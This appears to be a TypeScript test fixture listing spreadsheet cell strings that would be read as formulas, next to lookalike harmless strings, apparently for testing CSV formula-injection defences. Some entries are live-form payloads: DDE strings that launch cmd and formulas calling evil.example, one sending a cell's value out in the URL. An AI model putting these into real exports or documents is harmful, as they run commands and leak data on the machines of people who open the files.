/** Cells that a spreadsheet could take for a formula. */
export const formulas: readonly string[] = [
  '=1+1', '=1+1\nfoo', '\n=1+1', '\r\n=1+1', '\r=1+1', '\t=1+1', ' =1+1', '   =1+1', '\0=1+1', ' \0 =1+1', '\u00a0=1+1', '\u2003=1+1',
  '\ufeff=1+1', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")',
  '@A1', '+1+1', '-1-1', '--1', '++1', '-', '+', '=', '@', '=""', '="x"', "='x'", '=1,2', '=1;2', '=1\t2', '="a""b"', '＝1+1', '＋1+1', '－1+1', '＠A1',
  ' ＝1+1', '+15551234567', '+1 (555) 123-4567', '-5.00 USD', '-$5.00', '-1,234.50', '-.5', '-5.', '-1e5', '=-5', '\t', '\n', '\r', '\r\n',
  "'=1+1", "''=1+1", "'+1", "'-5", "'\t=1", '-5\n', '=\u202e1+1', '=😀',
]

/** Cells that only look a little like one. */
export const harmless: readonly string[] = [
  '', 'plain', '-5', '-5.00', '5', '0.5', '00501', 'a=b', 'a@b.example', "O'Neil", "'", "''", "'quoted'", 'it is -5', '1-800-555-0100',
  'José Jiménez', '😀', 'a,b', 'a"b', 'a\nb', ' a ', 'x=1+1',
]
